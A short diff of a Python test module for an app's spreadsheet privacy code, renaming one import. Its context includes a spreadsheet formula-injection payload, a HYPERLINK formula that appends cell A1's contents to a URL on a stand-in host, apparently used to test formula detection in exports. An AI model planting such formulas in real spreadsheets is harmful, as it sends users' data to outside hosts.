@@ -19,7 +19,7 @@ from fanpin_app.privacy.spreadsheets import (
 from fanpin_app.tests.http.test_rest import make_token
 from fanpin_app.tests.support.base import TestCase
 from fanpin_app.tests.support.builders import TOWN, VILLAGE, make_household, make_officer, member
-from fanpin_app.tests.support.committed import CommittedTestCase
+from fanpin_app.tests.support.committed_data import CommittedTestCase
 from fanpin_app.tests.unit.test_spreadsheets import is_formula
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
